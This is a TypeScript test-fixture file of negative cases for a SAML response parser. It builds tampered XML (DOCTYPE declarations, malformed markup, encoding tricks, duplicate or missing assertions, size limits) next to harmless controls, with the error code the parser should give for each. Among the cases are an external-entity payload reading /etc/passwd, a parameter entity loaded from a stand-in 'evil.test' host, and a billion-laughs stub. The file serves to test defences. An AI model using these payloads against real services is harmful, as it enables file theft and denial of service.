import { encryptAssertion } from '../../fakes/idp/encrypt.ts'
import type { Attack, Sent } from './case.ts'
import { make, ownKey } from './stage.ts'
import { cut, swap } from './surgery.ts'

const genuine = (): Sent => ({ xml: make() })
const changed = (change: (xml: string) => string): Sent => ({ xml: make({ tamper: change }) })
const padded = (inside: string): Sent =>
  changed((xml) => swap(xml, '<samlp:Status>', `<samlp:Extensions>${inside}</samlp:Extensions><samlp:Status>`))
const nested = (depth: number) => `<n xmlns="urn:n">${'<n>'.repeat(depth - 1)}${'</n>'.repeat(depth)}`
const doctype = (name: string, declaration: string): Attack => ({
  row: 'X1',
  name,
  code: 'xml.doctype',
  attack: () => changed((xml) => `${declaration}${xml}`),
  sibling: genuine,
})
const malformed = (name: string, change: (xml: string) => string, harmless: (xml: string) => string): Attack => ({
  row: 'X2',
  name,
  code: 'xml.malformed',
  attack: () => changed(change),
  sibling: () => changed(harmless),
})
const same = (xml: string) => xml
const certificate = ownKey.certificate

export const markup: readonly Attack[] = [
  doctype('a document type that nobody uses', '<!DOCTYPE Response>'),
  doctype('an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  doctype('a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.test/x.dtd"> %x;]>'),
  doctype('a billion laughs', '<!doctype r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'),
  malformed(
    'two roots',
    (xml) => `${xml}<a/>`,
    (xml) => `${xml}<!-- end -->\n`,
  ),
  malformed(
    'bytes after the end',
    (xml) => `${xml}x`,
    (xml) => `${xml}\n`,
  ),
  malformed(
    'a byte order mark',
    (xml) => `\u{feff}${xml}`,
    (xml) => `\n${xml}`,
  ),
  malformed(
    'UTF-16 by its own word',
    (xml) => `<?xml version="1.0" encoding="UTF-16"?>${xml}`,
    (xml) => `<?xml version="1.0" encoding="UTF-8"?>${xml}`,
  ),
  malformed(
    'UTF-7',
    (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
    (xml) => `<?xml version='1.0' encoding='utf-8'?>${xml}`,
  ),
  malformed(
    'XML 1.1',
    (xml) => `<?xml version="1.1"?>${xml}`,
    (xml) => `<?xml version="1.0"?>${xml}`,
  ),
  malformed('a NUL', (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>\0'), same),
  malformed(
    'a NUL by reference',
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&#0;'),
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&#10;'),
  ),
  malformed(
    'half a surrogate by reference',
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&#xD800;'),
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&#x20;'),
  ),
  malformed(
    'an entity that does not exist',
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&nbsp;'),
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status>&amp;'),
  ),
  malformed(
    'an attribute without quotes',
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status a=b>'),
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status a="b">'),
  ),
  malformed(
    'an attribute twice',
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status a="1" a="2">'),
    (xml) => swap(xml, '<samlp:Status>', '<samlp:Status a="1" b="2">'),
  ),
  malformed(
    'tags that cross',
    (xml) => swap(xml, '</saml:Assertion></samlp:Response>', '</samlp:Response></saml:Assertion>'),
    same,
  ),
  {
    row: 'S5',
    name: 'a processing instruction inside the NameID',
    code: 'xml.malformed',
    attack: () => changed((xml) => swap(xml, 'sso@', 'sso<?x?>@')),
    sibling: genuine,
  },
  {
    row: 'S4',
    name: 'an element inside the NameID',
    code: 'xml.schema',
    attack: () => ({ xml: make({ assertion: (xml) => swap(xml, 'sso@', '<b xmlns="urn:b">sso</b>@') }) }),
    sibling: genuine,
  },
  {
    row: 'X3',
    name: 'two assertions, both signed',
    code: 'saml.assertion_count',
    attack: () =>
      changed((xml) => {
        const other = cut(make(), 'saml:Assertion')
        return swap(xml, '</samlp:Response>', `${other}</samlp:Response>`)
      }),
    sibling: genuine,
  },
  {
    row: 'X3',
    name: 'two assertions in a signed Response',
    code: 'saml.assertion_count',
    attack: () => ({
      xml: make({
        sign: 'response',
        response: (xml) =>
          swap(xml, '</samlp:Response>', `${cut(make({ sign: 'none' }), 'saml:Assertion')}</samlp:Response>`),
      }),
    }),
    sibling: () => ({ xml: make({ sign: 'response' }) }),
  },
  {
    row: 'X3',
    name: 'a plain and an encrypted assertion in a signed Response',
    code: 'saml.assertion_count',
    attack: () => ({
      xml: make({
        sign: 'response',
        response: (xml) =>
          swap(
            xml,
            '</samlp:Response>',
            `${encryptAssertion(cut(make(), 'saml:Assertion'), { certificate })}</samlp:Response>`,
          ),
      }),
      connection: { decryptionKeys: [ownKey.key] },
    }),
    sibling: () => ({ xml: make({ sign: 'response' }), connection: { decryptionKeys: [ownKey.key] } }),
  },
  {
    row: 'X3',
    name: 'no assertion',
    code: 'saml.assertion_count',
    attack: () => ({ xml: make({ sign: 'response', response: (xml) => swap(xml, cut(xml, 'saml:Assertion'), '') }) }),
    sibling: () => ({ xml: make({ sign: 'response' }) }),
  },
  {
    row: 'X4',
    name: 'elements nested 51 deep',
    code: 'xml.limits',
    attack: () => padded(nested(49)),
    sibling: () => padded(nested(48)),
  },
  {
    row: 'X4',
    name: 'more than 5,000 nodes',
    code: 'xml.limits',
    attack: () => padded('<n xmlns="urn:n"/>'.repeat(2500)),
    sibling: () => padded('<n xmlns="urn:n"/>'.repeat(1500)),
  },
  {
    row: 'X4',
    name: 'more than 50 attributes on one element',
    code: 'xml.limits',
    attack: () => padded(`<n xmlns="urn:n"${Array.from({ length: 50 }, (_, at) => ` a${at}=""`).join('')}/>`),
    sibling: () => padded(`<n xmlns="urn:n"${Array.from({ length: 49 }, (_, at) => ` a${at}=""`).join('')}/>`),
  },
]
